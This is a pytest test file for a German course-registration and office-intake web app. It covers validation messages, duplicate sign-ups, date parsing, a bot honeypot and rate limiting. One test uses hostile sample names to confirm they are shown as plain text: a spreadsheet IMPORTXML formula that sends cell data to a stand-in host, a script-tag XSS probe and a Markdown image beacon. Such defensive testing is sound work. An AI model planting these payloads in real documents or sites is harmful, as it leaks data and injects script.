from decimal import Decimal

import pytest

from pages.shared import visit
from services.model.access import Role
from services.model.clock import now_in_germany
from services.model.course_records import Interest, Registration
from services.model.records import Request
from services.rush import MOST_OF_ALL
from services.storage.sql import SqlStore
from tests.screens.visitor import Visitor

COURSE = "register.K-0005"
ADA = {"first_name": "Ada", "last_name": "Lohe", "email": "ada.lohe@example.org", "consent": True}
FORMULA = '=IMPORTXML("http://x.example/?a="&A1;"//a")'
SCRIPT = "<script>alert(1)</script>"
IMAGE = "![x](http://x.example/y.png)"
FAMILY = "Özgür 👩‍👩‍👧‍👦 Ğ"
NOT_SAVED = "Noch nicht gespeichert: Bitte sehen Sie sich die markierten Felder an. Alles Eingetippte ist noch da."


@pytest.fixture
def kept(data):
    """Read what is kept, newest last."""
    stores = []

    def newest(kind):
        stores.append(SqlStore(f"sqlite:///{data}/example-dorsten.db"))
        return stores[-1].load().all(kind)[-1]

    yield newest
    for store in stores:
        store._engine.dispose()


@pytest.fixture
def applicant():
    visitor = Visitor()
    visitor.field("open.K-0005.0").set_value(True)
    return visitor.reload()


@pytest.mark.parametrize(
    ("wrong", "sentence"),
    [
        ({"email": "ada at example"}, "E-Mail: Das ist keine E-Mail-Adresse. Schreiben Sie sie so: name@example.org."),
        ({"phone": "nullacht"}, "Telefon: Das ist keine Telefonnummer. Schreiben Sie sie mit Vorwahl"),
        ({"phone": "123456"}, "Telefon: Das ist keine Telefonnummer."),
        ({"first_name": "   "}, "Vorname: Bitte ausfüllen."),
        ({"last_name": "x" * 10_000}, "Nachname: Bitte höchstens 100 Zeichen schreiben."),
        ({"message": "x" * 10_000}, "Nachricht: Bitte höchstens 4000 Zeichen schreiben."),
        ({"email": ""}, "E-Mail: Bitte geben Sie eine E-Mail-Adresse oder eine Telefonnummer an, damit wir Sie err"),
        ({"consent": False}, "Bitte ankreuzen: Ohne Ihre Einwilligung dürfen wir Ihre Angaben nicht speichern."),
    ],
    ids=lambda case: next(iter(case)) if isinstance(case, dict) else "",
)
def test_wrong_field_is_told_in_a_sentence_and_keeps_everything_typed(applicant, kept, wrong, sentence):
    before = kept(Registration).id
    typed = {**ADA, "message": "Ich rufe gern zurück.", **wrong}
    applicant.type(COURSE, typed).click("Jetzt anmelden")
    first, *rest = applicant.errors
    assert sentence in first
    assert rest == [NOT_SAVED]
    assert {name: applicant.field(f"{COURSE}.0.{name}").value for name in typed} == typed
    assert kept(Registration).id == before
    applicant.type(COURSE, {**ADA, "phone": "", "message": ""}).click("Jetzt anmelden")
    assert applicant.errors == []
    assert kept(Registration).last_name == "Lohe"


@pytest.mark.parametrize("name", [FORMULA, SCRIPT, IMAGE, FAMILY], ids=["formula", "script", "image", "emoji"])
def test_odd_name_is_stored_and_shown_as_plain_text(applicant, kept, name):
    applicant.type(COURSE, {**ADA, "last_name": name}).click("Jetzt anmelden")
    assert applicant.errors == []
    assert len(applicant.told) == 1
    assert kept(Registration).last_name == name
    office = Visitor(Role.COORDINATOR).open("office/courses.py").row("courses", "Vorbereitungskurs an vier Samstagen")
    assert not office.at.exception
    assert f"Ada {name}" in list(office.at.dataframe[1].value["Name"])
    office.row("people.K-0005", kept(Registration).id)
    assert name in office.text
    for one in office.at.markdown:
        assert not (name in (SCRIPT, IMAGE) and name in one.value)  # every sign Markdown knows is escaped


def test_form_is_closed_and_empty_after_it_was_saved(applicant):
    applicant.type(COURSE, ADA).click("Jetzt anmelden")
    assert applicant.field("open.K-0005.1").value is False
    applicant.field("open.K-0005.1").set_value(True).run()
    assert applicant.field(f"{COURSE}.1.first_name").value == ""
    assert applicant.field(f"{COURSE}.1.consent").value is False


def test_same_person_is_registered_once(applicant):
    applicant.type(COURSE, ADA).click("Jetzt anmelden")
    applicant.field("open.K-0005.1").set_value(True).run()
    applicant.type(COURSE, {**ADA, "email": "ADA.Lohe@example.org"}, turn=1).click("Jetzt anmelden")
    assert "schon angemeldet" in applicant.warnings[0]
    assert applicant.field(f"{COURSE}.1.first_name").value == "Ada"


def test_interest_is_kept_with_its_number(kept):
    visitor = Visitor()
    visitor.type("interest", {**ADA, "message": "Gern ab Mai"}).click("Interesse hinterlassen")
    assert visitor.told == [f"Vielen Dank! Wir haben Ihr Interesse unter {kept(Interest).id} notiert und melden uns."]
    assert kept(Interest).message == "Gern ab Mai"


@pytest.mark.parametrize(
    ("typed", "kept_as"),
    [
        ({"day": "3.9.2027", "at": "14:30", "hours": "1,5"}, ("2027-09-03", "14:30:00", Decimal("1.5"))),
        ({"day": "03.09.27", "at": "9", "hours": "1:30"}, ("2027-09-03", "09:00:00", Decimal("1.5"))),
        ({"day": "2027-09-03", "at": "9.15 Uhr", "hours": "0,25 Std."}, ("2027-09-03", "09:15:00", Decimal("0.25"))),
    ],
)
def test_days_and_hours_are_read_in_german_spelling(kept, typed, kept_as):
    visitor = Visitor(Role.COORDINATOR).open("office/intake.py")
    visitor.type("intake", {"client": "Z. Z.", **typed}).click("Aufnehmen")
    assert visitor.errors == []
    request = kept(Request)
    assert (str(request.day), str(request.at), request.hours) == kept_as
    visitor.row("requests", request.id)
    assert visitor.field(f"request.{request.id}.0.day").value == "03.09.2027"
    assert visitor.field(f"request.{request.id}.0.hours").value in ("1,5", "0,25")


@pytest.mark.parametrize(
    ("wrong", "sentence"),
    [
        ({"day": "30.02.2027"}, "Das ist kein Datum. Schreiben Sie es so: 03.09.2026."),
        ({"day": "morgen"}, "Das ist kein Datum. Schreiben Sie es so: 03.09.2026."),
        ({"at": "25:00"}, "Das ist keine Uhrzeit. Schreiben Sie sie so: 14:30."),
        ({"hours": "anderthalb"}, "Das sind keine Stunden. Schreiben Sie zum Beispiel 1,5 oder 1:30."),
        ({"hours": "-1"}, "Das sind keine Stunden."),
        ({"people": "zwei"}, "Bitte eine ganze Zahl schreiben, zum Beispiel 12."),
        ({"requester_phone": "12"}, "Das ist keine Telefonnummer."),
    ],
    ids=lambda case: next(iter(case)) if isinstance(case, dict) else "",
)
def test_wrong_request_is_told_at_its_field(wrong, sentence):
    visitor = Visitor(Role.COORDINATOR).open("office/intake.py")
    visitor.type("intake", wrong).click("Aufnehmen")
    assert sentence in visitor.errors[0]
    assert visitor.told == []
    assert {name: visitor.field(f"intake.0.{name}").value for name in wrong} == wrong


def test_person_cannot_become_ready_without_papers():
    visitor = Visitor(Role.COORDINATOR).open("office/roster.py").row("roster", "Tesfay Gebrenas")
    visitor.choose("person.section", "Stage").click("Auf „Einsatzbereit“ setzen")
    told = "Für „Einsatzbereit“ fehlen noch diese Unterlagen: Zertifikat, Verschwiegenheitserklärung."
    assert visitor.warnings[-1] == told
    assert visitor.told == []


@pytest.mark.parametrize("form", ["interest", "register.K-0005"])
def test_machine_that_fills_every_field_of_a_public_form_saves_nothing(form, data):
    visitor = Visitor()
    if form != "interest":
        visitor.field("open.K-0005.0").set_value(True).run()
    typed = {"first_name": "Ada", "last_name": "Lohe", "phone": "02362 123456", "consent": True}
    visitor.type(form, typed | {"trap": "http://x.example"})
    visitor.click("Interesse hinterlassen" if form == "interest" else "Jetzt anmelden")
    assert visitor.warnings == [
        "Das konnte nicht gesendet werden. Bitte rufen Sie das Büro an; die Nummer steht unten auf der Seite."
    ]
    assert visitor.field(f"{form}.0.last_name").value == "Lohe"
    assert visitor.told == []


def test_public_is_asked_to_wait_when_too_much_comes_in_and_loses_nothing(data):
    rush = visit._rush()
    for number in range(MOST_OF_ALL):
        rush.enter(now_in_germany(), "", str(number))
    visitor = Visitor()
    visitor.type("interest", {"first_name": "Ada", "last_name": "Lohe", "phone": "02362 123456", "consent": True})
    visitor.click("Interesse hinterlassen")
    assert visitor.warnings[0].startswith("Gerade geht sehr viel ein. Bitte drücken Sie in 10 Minuten noch einmal")
    assert visitor.field("interest.0.last_name").value == "Lohe"
    office = Visitor(Role.COORDINATOR).open("office/interests.py")
    assert "Lohe" not in office.text
